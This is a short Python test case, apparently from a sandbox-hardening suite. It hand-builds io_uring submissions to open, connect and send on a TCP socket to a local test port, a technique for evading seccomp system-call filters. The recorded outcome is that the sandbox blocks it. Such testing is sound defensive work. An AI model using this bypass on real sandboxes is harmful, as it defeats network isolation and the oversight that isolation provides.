# Has the kernel make a socket, connect it and send on it by io_uring, which no filter of system calls sees.
# Seen: answered as by a kernel without io_uring; nothing arrives.
import ctypes
import mmap
import socket
import struct

OP_CONNECT, OP_SEND, OP_SOCKET = 16, 26, 45  # linux/io_uring.h
ENTER_GETEVENTS, NO_OFFSET, AT_SUBMISSIONS = 1, 0, 0x10000000


def attack(targets):
    parameters = ctypes.create_string_buffer(120)
    ring = targets.call("io_uring_setup", 4, parameters)
    fields = struct.unpack_from("=30I", parameters)
    sq_tail, sq_mask, sq_array, cq_tail, cq_mask, cqes = (fields[number] for number in (11, 12, 16, 21, 22, 25))
    rings = mmap.mmap(ring, cqes + 16 * 8 + 4096, offset=NO_OFFSET)
    entries = mmap.mmap(ring, 64 * 4, offset=AT_SUBMISSIONS)

    def word(offset):
        return struct.unpack_from("=I", rings, offset)[0]

    def do(opcode, descriptor, offset, address, length):
        tail = word(sq_tail)
        index = tail & word(sq_mask)
        struct.pack_into("=BBHiQQIIQ", entries, 64 * index, opcode, 0, 0, descriptor, offset, address, length, 0, 7)
        struct.pack_into("=I", rings, sq_array + 4 * index, index)
        struct.pack_into("=I", rings, sq_tail, tail + 1)
        targets.call("io_uring_enter", ring, 1, 1, ENTER_GETEVENTS, 0, 0)
        done = (word(cq_tail) - 1) & word(cq_mask)
        _, result, _ = struct.unpack_from("=QiI", rings, cqes + 16 * done)
        if result < 0:
            raise OSError(-result, f"io_uring operation {opcode}")
        return result

    where = ctypes.create_string_buffer(
        struct.pack("=H", socket.AF_INET) + struct.pack(">H4s8x", targets.tcp_port, socket.inet_aton("127.0.0.1"))
    )
    what = ctypes.create_string_buffer(targets.name)
    connection = do(OP_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
    do(OP_CONNECT, connection, 16, ctypes.addressof(where), 0)
    do(OP_SEND, connection, 0, ctypes.addressof(what), len(targets.name))
